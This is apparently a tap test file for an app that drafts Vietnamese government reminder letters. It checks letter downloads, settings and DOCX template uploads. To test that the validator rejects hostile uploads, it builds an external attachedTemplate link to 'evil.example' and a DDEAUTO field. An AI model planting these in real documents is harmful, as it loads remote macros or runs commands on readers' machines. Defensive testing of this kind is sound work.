import mammoth from 'mammoth'
import t from 'tap'
import { findActiveTemplate } from '../../../src/data/document-template.ts'
import { unzip, zip } from '../../../src/lib/zip.ts'
import { openTestOffice } from '../../support/office.ts'
import { holds, lacks } from '../../support/page.ts'
import { openTestApp, signInAs } from '../../support/web.ts'

t.setTimeout(160_000)
const office = await openTestOffice(t)
const { reader } = office.database
await office.issued('2018-11-20', '2018-12-05')
await office.issued('2018-11-20', '2018-12-12', {
  title: 'Rà soát <mô hình> & nhân rộng',
  leadUnitId: office.unit.gdth,
})
const words = async (bytes: Buffer) => (await mammoth.extractRawText({ buffer: bytes })).value

await t.test('a letter is chosen, looked over and taken as DOCX, and the download is on record', async t => {
  const app = await openTestApp(t, office)
  const secretary = await signInAs(app, office, 'tuyet')
  const first = await secretary.get('/reminder-letters/new')
  t.equal(first.statusCode, 200)
  holds(t, first.body, new RegExp(`value="${office.unit.tccb}"[^>]*checked`))
  holds(t, first.body, 'còn 01 nhiệm vụ quá hạn, 01 nhiệm vụ sắp đến hạn (Phụ lục kèm theo)')
  holds(t, first.body, 'Rà soát &lt;mô hình&gt; &amp; nhân rộng')
  const none = await secretary.get(
    '/reminder-letters/new?shown=1&asOf=10/12/2018&completeOn=09/12/2018&round=x',
  )
  t.equal(none.statusCode, 422)
  holds(t, none.body, 'Chọn ít nhất một đơn vị')
  holds(t, none.body, 'Ngày hoàn thành phải sau ngày số liệu')
  const query = `shown=1&asOf=10/12/2018&units=${office.unit.tccb}&completeOn=21/12/2018&round=2&authority=KT.&signedFor=Giám đốc&signerTitle=Phó Giám đốc&signerName=Lê Thị Kim Ngân`
  const shown = await secretary.get(`/reminder-letters/new?${encodeURI(query)}`)
  holds(t, shown.body, 'V/v đôn đốc lần 2 thực hiện kiến nghị')
  const before = await reader.selectFrom('access_log').select('id').where('kind', '=', 'download').execute()
  const file = await secretary.get(`/reminder-letters/letter.docx?${encodeURI(query)}`)
  t.equal(file.statusCode, 200)
  t.match(file.headers['content-disposition'], /cong-van-don-doc-lan-2-2018-12-10\.docx/)
  const text = await words(file.rawPayload)
  t.match(text, /Khẩn trương hoàn thành các nhiệm vụ quá hạn trước ngày 21\/12\/2018; làm rõ nguyên nhân/)
  t.match(text, /KT\. GIÁM ĐỐC\s+PHÓ GIÁM ĐỐC[\s\S]*Lê Thị Kim Ngân/)
  t.notMatch(text, /Rà soát/, 'the unit that was not chosen')
  const after = await reader.selectFrom('access_log').select('id').where('kind', '=', 'download').execute()
  t.equal(after.length, before.length + 1)
  t.equal((await (await signInAs(app, office, 'phuc')).get('/reminder-letters/new')).statusCode, 403)
})

await t.test('what documents say is set by the secretary and stands on the next letter', async t => {
  const app = await openTestApp(t, office)
  const secretary = await signInAs(app, office, 'tuyet')
  const page = await secretary.get('/admin/documents')
  holds(t, page.body, /name="parentName"[^>]*value="UBND tỉnh Vĩnh Long"/)
  const typed = {
    sender: 'party',
    parentName: '',
    bodyName: '',
    symbol: '',
    drafterSymbol: '',
    place: '',
    partyParentName: 'Tỉnh ủy Vĩnh Long',
    partyName: 'Đảng ủy Sở Giáo dục và Đào tạo',
    partySymbol: 'ĐU',
    authority: 'TM.',
    signedFor: 'Đảng ủy',
    signerTitle: 'Bí thư',
    signerName: 'Huỳnh Quốc Bảo',
    addressee: '',
    recipients: '- Như trên;\n- Lưu: VT.',
    cutOffDay: '14',
    version: '0',
  }
  const wrong = await secretary.post('/admin/documents', { ...typed, cutOffDay: '40' })
  t.equal(wrong.statusCode, 422)
  holds(t, wrong.body, 'value="Huỳnh Quốc Bảo"', 'typed values stay')
  t.equal((await secretary.post('/admin/documents', typed)).statusCode, 303)
  t.equal((await secretary.post('/admin/documents', typed)).statusCode, 409, 'someone was first')
  const event = await reader
    .selectFrom('event')
    .select('payload')
    .where('act', '=', 'change_document_setting')
    .execute()
  t.match(
    event.map(row => JSON.parse(row.payload)),
    [{ sender: 'party', authority: 'TM.' }],
  )
  const letter = await secretary.get('/reminder-letters/new')
  holds(t, letter.body, '-CV/ĐU')
  holds(t, letter.body, /T\/M ĐẢNG ỦY[\s\S]*BÍ THƯ/)
  t.equal((await (await signInAs(app, office, 'son')).get('/admin/documents')).statusCode, 403)
})

await t.test('an own form is checked, used, left and taken up again', async t => {
  const app = await openTestApp(t, office)
  const secretary = await signInAs(app, office, 'tuyet')
  const sample = (await secretary.get('/admin/templates/samples/letter')).rawPayload
  t.match(await words(sample), /\{\{kinh_gui\}\}[\s\S]*\{\{bang_theo_doi\}\}/)
  const upload = (content: Buffer, name = 'Mẫu công văn.docx') =>
    secretary.upload('/admin/templates', { kind: 'letter' }, { file: { name, content } })
  const refused = async (content: Buffer, sentence: RegExp, name?: string) => {
    const answer = await upload(content, name)
    t.equal(answer.statusCode, 422, String(sentence))
    holds(t, answer.body, sentence)
  }
  await refused(
    changed(sample, 'word/document.xml', xml => xml.replace('{{kinh_gui}}', '{{kinh_goi}}')),
    /\{\{kinh_goi\}\}/,
  )
  const relation =
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
  await refused(
    changed(sample, 'word/_rels/document.xml.rels', xml =>
      xml.replace('</Relationships>', `${relation}</Relationships>`),
    ),
    /Gỡ liên kết trong Word/,
  )
  await refused(
    changed(sample, 'word/document.xml', xml =>
      xml.replace('<w:body>', '<w:body><w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\x "/></w:p>'),
    ),
    /trường gọi chương trình/,
  )
  await refused(Buffer.from('plain words'), /DOCX/, 'mau.txt')
  // As Word does it: one name cut into several runs.
  const cut = changed(sample, 'word/document.xml', xml =>
    xml.replace('{{tinh_den_ngay}}', '{{tinh_</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>den_ngay}}'),
  )
  t.equal((await upload(cut)).statusCode, 303)
  const fileId = await findActiveTemplate(reader, office.unit.so, 'letter')
  t.ok(fileId)
  const path = `/reminder-letters/letter.docx?shown=1&asOf=10/12/2018&units=${office.unit.gdth}&completeOn=21/12/2018&round=1&authority=`
  const filled = await words((await secretary.get(path)).rawPayload)
  t.match(filled, /Số liệu tính đến hết ngày 10\/12\/2018/)
  t.match(filled, /Phòng Giáo dục Trung học/)
  t.match(filled, /Rà soát <mô hình> & nhân rộng/)
  t.notMatch(filled, /\{\{/)
  const page = await secretary.get('/admin/templates')
  holds(t, page.body, 'Đang dùng: Mẫu công văn.docx')
  const [row] = await reader.selectFrom('document_template').select('id').execute()
  t.equal((await secretary.get(`/admin/templates/${row?.id}/file`)).rawPayload.length, cut.length)
  t.equal(
    (await secretary.post('/admin/templates/choice', { kind: 'letter', templateId: '' })).statusCode,
    303,
  )
  t.equal(await findActiveTemplate(reader, office.unit.so, 'letter'), null)
  t.equal(
    (await secretary.post('/admin/templates/choice', { kind: 'report', templateId: row?.id ?? '' }))
      .statusCode,
    404,
  )
  t.equal(
    (await secretary.post('/admin/templates/choice', { kind: 'letter', templateId: row?.id ?? '' }))
      .statusCode,
    303,
  )
  t.equal(await findActiveTemplate(reader, office.unit.so, 'letter'), fileId)
  lacks(t, (await (await signInAs(app, office, 'quan')).get('/admin/templates')).body, 'error')
})

function changed(docx: Buffer, part: string, change: (xml: string) => string): Buffer {
  const parts = unzip(docx, () => true)
  parts.set(part, Buffer.from(change(parts.get(part)?.toString('utf8') ?? '')))
  return zip(parts)
}
